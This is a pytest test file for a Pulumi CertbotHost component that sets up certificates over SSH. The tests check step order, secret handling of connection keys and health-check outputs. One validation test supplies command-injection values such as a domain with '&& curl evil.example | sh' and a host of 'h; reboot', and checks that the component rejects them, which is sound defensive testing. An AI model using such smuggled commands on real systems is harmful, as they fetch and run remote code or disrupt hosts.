"""CertbotHost under Pulumi mocks: children, order, dependencies, secrecy and outputs."""

from __future__ import annotations

import shlex

import pulumi
import pytest
from pulumi.runtime import rpc
from pulumi_command import remote

from components.certbot import CertbotConfigError, CertbotHost
from components.certbot.scripts import as_remote_command, render_script
from components.certbot.spec import build_spec
from tests.support.mocks import install_mocks

CERT_STDOUT = ("certificate: done\ncert_name=dreamfactory\nexpires_at=2031-05-06T07:08:09Z\nserial=0ABC\n"
               "https_verified=true")
RENEWAL_STDOUT = "renewal_timer=snap.certbot.renew.timer\nrenewal: done (changed=0)"
HEALTH_TYPE = "pulumi-python:dynamic/certbot:HostHealthCheck"
HEALTH_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHealthKeyForTests ops@laptop"
# What the health provider reports: the host read now (a later expiry than the certificate step saw).
HEALTH_OUTPUTS = {"expires_at": "2031-08-01T00:00:00Z", "https_verified": True, "renewal_timer_active": False,
                  "problems": ["renewal timer snap.certbot.renew.timer is inactive (up re-runs the renewal step)"]}


def command_outputs(typ, name, inputs):
    if typ == HEALTH_TYPE:
        return HEALTH_OUTPUTS
    if typ != "command:remote:Command":
        return {}
    return {"stdout": CERT_STDOUT if name.endswith("-certificate") else RENEWAL_STDOUT, "stderr": ""}


def secret_value(registered: object) -> object:
    """The value of a property registered as a secret (fails when it was not sent as one)."""
    assert isinstance(registered, dict) and registered.get(rpc._special_sig_key) == rpc._special_secret_sig, registered
    return registered["value"]


def script_of(remote_command: str) -> str:
    """The bash script a step's remote command runs (the argument of ``bash -c``)."""
    words = shlex.split(remote_command)
    return words[words.index("-c") + 1]


@pytest.fixture
def run():
    return install_mocks(outputs=command_outputs)


def host(name="df-1", **overrides):
    args = dict(connection=remote.ConnectionArgs(host="203.0.113.10", user="root", private_key="PRIVATE-KEY-XYZ",
                                                 host_key="ssh-ed25519 AAAAC3Nza"),
                domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True)
    args.update(overrides)
    return CertbotHost(name, **args)


@pulumi.runtime.test
def test_children_in_order_each_depending_on_the_previous(run):
    component = host()

    def check(_):
        commands = [r for r in run.mocks.registrations if r.typ == "command:remote:Command"]
        assert [r.name for r in commands] == ["df-1-firewall", "df-1-snapd", "df-1-certbot", "df-1-certificate",
                                             "df-1-renewal"]
        parent = run.mocks.named("df-1")
        assert parent.typ == "dreamfactory:certbot:CertbotHost"
        urns = {r.name: f"urn:pulumi:unit::dreamfactory-infra::dreamfactory:certbot:CertbotHost$command:remote:Command::{r.name}"
                for r in commands}
        for before, after in zip(commands, commands[1:]):
            assert urns[before.name] in after.dependencies, f"{after.name} does not depend on {before.name}"
        assert all(r.parent.endswith("::df-1") for r in commands)

    return pulumi.Output.all(component.expires_at, component.renewal_timer).apply(check)


@pulumi.runtime.test
def test_connection_is_secret_and_scripts_are_the_rendered_ones(run):
    component = host()

    def check(_):
        spec = build_spec(domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True,
                          owner="df-1", host="203.0.113.10")
        for step in ("firewall", "snapd", "certbot", "certificate", "renewal"):
            inputs = run.mocks.named(f"df-1-{step}").inputs
            assert rpc.is_rpc_secret(inputs["connection"])
            assert rpc.unwrap_rpc_secret(inputs["connection"])["hostKey"] == "ssh-ed25519 AAAAC3Nza"
            assert inputs["create"] == as_remote_command(render_script(step, spec), sudo=False)
            assert "PRIVATE-KEY-XYZ" not in inputs["create"]
        assert "triggers" not in run.mocks.named("df-1-certificate").inputs
        assert run.mocks.named("df-1-renewal").inputs["triggers"] == ["0ABC"]  # re-verify after a new certificate

    return component.renewal_timer.apply(check)


@pulumi.runtime.test
def test_outputs_come_from_the_steps_and_the_health_check(run):
    component = host(cert_name="dreamfactory")

    def check(values):
        assert values[:5] == ["dreamfactory", "/etc/letsencrypt/live/dreamfactory/fullchain.pem",
                              "/etc/letsencrypt/live/dreamfactory/privkey.pem", "snap.certbot.renew.timer",
                              "2031-08-01T00:00:00Z"]
        assert values[5:8] == [True, False, True]
        assert 1600 < values[8] < 2000  # days from today to 2031-08-01, computed at this run
        assert not any("host_key" in warning for warning in run.warnings)
        assert any("renewal timer snap.certbot.renew.timer is inactive" in warning for warning in run.warnings)

    return pulumi.Output.all(component.cert_name, component.certificate_path, component.private_key_path,
                             component.renewal_timer, component.expires_at, component.https_verified,
                             component.renewal_timer_active, component.https_verified,
                             component.days_left).apply(check)


@pulumi.runtime.test
def test_the_health_check_follows_the_steps_with_their_scripts_and_a_secret_key(run):
    component = host(renew_before_days=21)

    def check(_):
        health = run.mocks.named("df-1-health")
        assert health.typ == HEALTH_TYPE and health.parent.endswith("::df-1")
        renewal_urn = "urn:pulumi:unit::dreamfactory-infra::dreamfactory:certbot:CertbotHost$command:remote:Command::df-1-renewal"
        assert renewal_urn in health.dependencies
        inputs = health.inputs
        assert rpc.is_rpc_secret(inputs["private_key"]) and rpc.unwrap_rpc_secret(inputs["private_key"]) == "PRIVATE-KEY-XYZ"
        assert inputs["host_key"] == "ssh-ed25519 AAAAC3Nza" and inputs["renew_before_days"] == 21
        assert inputs["domains"] == ["df.example.com", "www.df.example.com"]
        assert inputs["serve_https"] is True and inputs["firewall"] is True
        for step in ("firewall", "snapd", "certbot", "certificate", "renewal"):
            assert inputs["repairs"][step] == run.mocks.named(f"df-1-{step}").inputs["create"]
        assert "RENEW_BEFORE_DAYS=21" in inputs["repairs"]["renewal"]
        assert "CertbotHost step: health" in inputs["probe"] and "PRIVATE-KEY-XYZ" not in inputs["probe"]
        # The read-ahead: same connection (key secret) and probe, with no dependency (so it registers at once, long
        # before the health check, which waits for the steps), active only at preview (these mocks run an update).
        ahead = run.mocks.named("df-1-health-read-ahead")
        assert ahead.dependencies == [] and ahead.parent.endswith("::df-1")
        names = [r.name for r in run.mocks.registrations]
        assert names.index("df-1-health-read-ahead") < names.index("df-1-health")
        assert ahead.inputs["probe"] == inputs["probe"] and ahead.inputs["enabled"] is False
        assert rpc.is_rpc_secret(ahead.inputs["private_key"])

    return component.expires_at.apply(check)


@pulumi.runtime.test
def test_firewall_none_and_a_sudo_user(run):
    component = host(name="df-2", firewall="none",
                     connection=remote.ConnectionArgs(host="203.0.113.11", user="deploy", private_key="K"))

    def check(_):
        names = [r.name for r in run.mocks.registrations if r.typ == "command:remote:Command"]
        assert names == ["df-2-snapd", "df-2-certbot", "df-2-certificate", "df-2-renewal"]
        assert run.mocks.named("df-2-snapd").inputs["create"].startswith("sudo -n true")
        assert any("no connection.host_key" in warning for warning in run.warnings)

    return pulumi.Output.all(component.expires_at, component.renewal_timer).apply(check)


@pulumi.runtime.test
def test_a_connection_host_known_only_at_run_time_reaches_the_certificate_script(run):
    address = pulumi.Output.from_input("198.51.100.7")  # e.g. a VM's public address
    component = host(name="df-3", connection=remote.ConnectionArgs(host=address, user="root", private_key="K"))

    def check(_):
        assert "CONNECTION_HOST=198.51.100.7" in run.mocks.named("df-3-certificate").inputs["create"]

    return component.renewal_timer.apply(check)


def test_bad_input_registers_nothing(run):
    with pytest.raises(CertbotConfigError, match="'domains'"):
        host(domains=["df.example.com && curl evil.example | sh"])
    with pytest.raises(CertbotConfigError, match="'connection.host'"):
        host(connection=remote.ConnectionArgs(host="h; reboot", user="root"))
    with pytest.raises(CertbotConfigError, match="'health_public_key'"):
        host(health_public_key='command="sh" ssh-ed25519 AAAAC3Nza')  # options are the component's to set
    with pytest.raises(CertbotConfigError, match="'health_public_key'"):
        host(health_public_key="ssh-ed25519 AAAAC3Nza\nssh-ed25519 AAAAother")
    with pytest.raises(CertbotConfigError, match="'health_connection.user'"):
        host(health_public_key=HEALTH_KEY, health_connection=remote.ConnectionArgs(host="h", user="root"))
    with pytest.raises(CertbotConfigError, match="'connection.user'"):
        host(connection=remote.ConnectionArgs(host="h", user=pulumi.Output.from_input("root")))
    assert run.mocks.registrations == []


def test_bad_input_is_a_run_error_naming_the_component(run):
    # A RunError: the engine prints the message as one `error:` line, with no traceback.
    with pytest.raises(pulumi.RunError, match=r"^CertbotHost 'df-1': CertbotHost argument 'email'"):
        host(email="-oops@example.com")


@pulumi.runtime.test
def test_a_health_key_adds_the_identity_step_whose_delete_removes_it_and_reads_use_the_health_connection(run):
    agent = "/run/user/1000/ssh-agent.sock"
    bastion = remote.ProxyConnectionArgs(host="bastion.example.com", user="jump", agent_socket_path=agent,
                                         host_key="ssh-ed25519 AAAAbastion")
    deploy = remote.ConnectionArgs(host="10.0.0.5", user="deploy", agent_socket_path=agent, proxy=bastion,
                                   host_key="ssh-ed25519 AAAAtarget")
    health = remote.ConnectionArgs(host="10.0.0.5", user="dreamfactory-health", agent_socket_path=agent,
                                   proxy=bastion, host_key="ssh-ed25519 AAAAtarget")
    component = host(connection=deploy, health_public_key=HEALTH_KEY, health_connection=health)

    def check(_):
        commands = [r.name for r in run.mocks.registrations if r.typ == "command:remote:Command"]
        assert commands[-1] == "df-1-health-identity" and commands[:-1] == [
            "df-1-firewall", "df-1-snapd", "df-1-certbot", "df-1-certificate", "df-1-renewal"]
        identity = run.mocks.named("df-1-health-identity").inputs
        create, delete = (script_of(identity[which]) for which in ("create", "delete"))
        assert "HEALTH_PUBLIC_KEY='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHealthKeyForTests'" in create  # no comment
        assert "HEALTH_USER=dreamfactory-health" in create
        assert "# dreamfactory-infra CertbotHost step: health\n" in create  # the probe it installs
        assert "HEALTH_PUBLIC_KEY=''" in delete and "PROBE_SCRIPT=''" in delete
        checked = run.mocks.named("df-1-health").inputs
        assert checked["agent_socket_path"] == agent and checked.get("private_key") is None
        proxy, health_connection = secret_value(checked["proxy"]), secret_value(checked["health_connection"])
        assert proxy["host"] == "bastion.example.com" and proxy["host_key"] == "ssh-ed25519 AAAAbastion"
        assert health_connection["user"] == "dreamfactory-health"
        assert health_connection["proxy"]["user"] == "jump"  # inside the secret whole
        assert "health-identity" not in checked["repairs"]
        view = run.mocks.named("df-1").inputs
        assert view["health_identity"] is True and view["private_key_in_config"] is False

    return pulumi.Output.all(component.renewal_timer, component.expires_at).apply(check)


@pulumi.runtime.test
def test_nested_connection_secrets_stay_secret(run):
    bastion = remote.ProxyConnectionArgs(host="bastion.example.com", user="jump", private_key="BASTION-KEY")
    component = host(connection=remote.ConnectionArgs(host="10.0.0.5", user="root", private_key="PRIVATE-KEY-XYZ",
                                                      proxy=bastion))

    def check(_):
        registered = run.mocks.named("df-1-health")
        assert secret_value(registered.inputs["proxy"])["private_key"] == "BASTION-KEY"  # the bastion hop is secret whole
        assert run.mocks.named("df-1").inputs["private_key_in_config"] is True
        assert "df-1-health-identity" not in [r.name for r in run.mocks.registrations]

    return pulumi.Output.all(component.renewal_timer, component.expires_at).apply(check)


@pulumi.runtime.test
def test_problems_are_an_output_in_words(run):
    component = host()
    return component.problems.apply(lambda problems: assert_equal(problems, HEALTH_OUTPUTS["problems"]))


def assert_equal(actual, expected) -> None:
    assert actual == expected
